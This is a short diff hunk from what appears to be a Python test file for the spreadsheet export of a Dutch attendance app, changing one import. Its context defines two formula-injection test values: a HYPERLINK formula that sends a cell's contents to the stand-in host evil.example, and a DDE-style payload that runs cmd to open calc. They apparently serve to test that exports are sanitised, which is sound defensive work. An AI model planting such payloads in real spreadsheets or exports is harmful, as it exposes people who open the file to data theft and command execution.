@@ -14,7 +14,7 @@ from tests.conftest import end_unit_of_work, log_in
 from tests.trio_helpers import trio
 from wijkwerk.accounts.services import create_api_token
 from wijkwerk.attendance.exports import spreadsheet_text
-from wijkwerk.registrations import trios
+from wijkwerk.werkplaatsen import services as trios
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'
 EVIL_SUBSTITUTE = "@SUM(1+1)*cmd|' /C calc'!A0"
